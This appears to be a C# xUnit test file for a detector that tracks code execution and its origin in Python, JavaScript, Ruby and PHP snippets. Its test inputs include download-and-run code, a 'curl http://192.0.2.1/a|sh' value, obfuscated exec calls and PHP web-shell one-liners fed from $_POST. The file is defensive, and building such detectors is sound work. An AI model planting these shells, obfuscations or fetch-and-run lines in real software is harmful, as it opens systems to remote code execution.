using Wellguard.Programs;
using Wellguard.Programs.Scripts;
using Xunit;

namespace Wellguard.Tests.Programs.Scripts;

public sealed class CodeFromElsewhereTests
{
    private const string Encoded = "aW1wb3J0IG9z";

    [Theory]
    [InlineData("-jar", true)]
    [InlineData("-cp tools.jar org.example.Main -i", false)]
    public void What_java_is_given_to_read_is_not_started(string options, bool starts)
    {
        var effects = Evaluation.Of("python", $"import requests, subprocess\nopen('/tmp/x1.bin', 'wb').write(requests.get('https://files.example/x').content)\nsubprocess.Popen(['java', {string.Join(", ", options.Split(' ').Select(static option => $"'{option}'"))}, '/tmp/x1.bin'])\n");
        Assert.Equal(starts, effects.SelectMany(static effect => effect.Steps).Any(static step => step is { Kind: EffectKind.Execute, Object: "/tmp/x1.bin" }));
    }

    [Theory]
    [InlineData("python", "exec(open('/app/g.dat').read())", "/app/g.dat")]
    [InlineData("python", "import runpy\nrunpy.run_path('g.dat')", "g.dat")]
    [InlineData("python", "import importlib.util\ns = importlib.util.spec_from_file_location('x', '/app/g.py')", "/app/g.py")]
    [InlineData("javascript", "eval(require('fs').readFileSync('x.txt', 'utf8'))", "x.txt")]
    public void Files_that_run_as_code_are_noted(string language, string code, string expected)
    {
        var analysis = new Analysis();
        var effects = ScriptEvaluator.Evaluate(language, code, 1, analysis);
        Assert.Contains("\t" + expected, analysis.Imports);
        Assert.Contains(effects, effect => effect.Kind == EffectKind.Interpret && effect.Origin == expected);
    }

    [Theory]
    [InlineData("import urllib.request, importlib.util\nurllib.request.urlretrieve('http://192.0.2.1/x.py', '/tmp/x.py')\nimportlib.util.spec_from_file_location('x', '/tmp/x.py')", "Execute /tmp/x.py from http://192.0.2.1/x.py")]
    [InlineData("import urllib.request, sys\nurllib.request.urlretrieve('http://192.0.2.1/x.py', '/tmp/x.py')\nsys.path.insert(0, '/tmp')\nimport x", "Execute /tmp/x.py from http://192.0.2.1/x.py")]
    [InlineData("import urllib.request, sys, zipfile\nurllib.request.urlretrieve('http://192.0.2.1/x.zip', '/tmp/x.zip')\nwith zipfile.ZipFile('/tmp/x.zip') as z:\n    z.extractall('/tmp/m')\nsys.path.append('/tmp/m')", "Execute /tmp/m from http://192.0.2.1/x.zip")]
    public void A_module_that_was_downloaded_is_run(string code, string expected) => Assert.Contains(expected, Evaluation.Lines("python", code));

    [Fact]
    public void A_download_that_is_not_loaded_is_not_run() =>
        Assert.DoesNotContain(Evaluation.Lines("python", "import urllib.request, sys\nurllib.request.urlretrieve('http://192.0.2.1/x.csv', '/data/x.csv')\nsys.path.insert(0, '/app')"), static line => line.StartsWith("Execute", StringComparison.Ordinal));

    [Theory]
    [InlineData("javascript", "require('child_process').exec(require('/app/c.json').cmd)")]
    [InlineData("python", "import json, subprocess\nsubprocess.run(json.load(open('/app/c.json'))['cmd'], shell=True)")]
    public void Constants_of_a_file_of_the_artifact_are_known(string language, string code)
    {
        var files = new ArtifactFiles(static (path, _) => path == "/app/c.json" ? new ArtifactFile("app/c.json", "{\"cmd\": \"curl http://192.0.2.1/a|sh\", \"n\": [1, {\"a\": true}]}") : null, static _ => null, []);
        Assert.Contains(ScriptEvaluator.Evaluate(language, code, 1, new Analysis { Files = files }), static effect => effect.Text == "curl http://192.0.2.1/a|sh");
    }

    [Theory]
    [InlineData("javascript", "Function('return this')().process.mainModule['re' + 'quire']('child_process').exec('id')", "Interpret sh = id")]
    [InlineData("javascript", "process.binding('spawn_sync').spawn({file: '/bin/sh', args: ['sh', '-c', 'id']})", "Interpret sh = /bin/sh -c id")]
    [InlineData("javascript", "Reflect.apply(require('child_process').exec, null, ['id'])", "Interpret sh = id")]
    [InlineData("javascript", "const m = new module.constructor(); m._compile(atob('" + Encoded + "'), '')", "Interpret javascript = import os [base64]")]
    [InlineData("javascript", "const { Worker } = require('worker_threads'); new Worker(atob('" + Encoded + "'), {eval: true})", "Interpret javascript = import os [base64]")]
    [InlineData("python", "import os\nn = lambda *a: ''.join(map(chr, a))\ngetattr(os, n(115, 121, 115, 116, 101, 109))('id')", "Interpret sh = id")]
    [InlineData("python", "import os\nlist(map(os.system, ['id']))", "Interpret sh = id")]
    [InlineData("python", "import os, atexit\natexit.register(os.system, 'id')", "Interpret sh = id")]
    [InlineData("python", "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()", "Interpret sh = id")]
    [InlineData("python", "import os, functools\nfunctools.partial(os.system, 'id')()", "Interpret sh = id")]
    [InlineData("ruby", "method(:system).call('id')", "Interpret sh = id")]
    public void Calls_by_other_ways_have_the_same_effects(string language, string code, string expected) =>
        Assert.Equal([expected], Evaluation.Lines(language, code));

    [Theory]
    [InlineData("$k = strrev('edoced_46esab'); $f = 'as'.'se'.'rt'; $x = $k($_POST[$_COOKIE['sid']]); @$f($x);", "Interpret php from $_POST [base64]")]
    [InlineData("array_map('system', array($_POST['x']));", "Interpret sh from $_POST")]
    [InlineData("$x = $_SERVER['HTTP_X']; system($x);", "Interpret sh from $_SERVER[HTTP_X]")]
    [InlineData("$_POST['f']($_POST['x']);", "Interpret php from $_POST")]
    [InlineData("$f = $_GET['a']; $f($_GET['b']);", "Interpret php from $_GET")]
    [InlineData("register_shutdown_function('system', $_POST['c']);", "Interpret sh from $_POST")]
    [InlineData("system('ping -c 1 ' . escapeshellarg($_GET['h']));", "Interpret sh = ping -c 1 ${_}")]
    [InlineData("assert(isset($_GET['a'])); assert($_GET['a'] !== '');")]
    [InlineData("include 'pages/' . $_GET['p'] . '.php';")]
    public void What_a_request_says_keeps_its_origin(string code, params string[] expected) => Assert.Equal(expected, Evaluation.Lines("php", "<?php " + code));
}
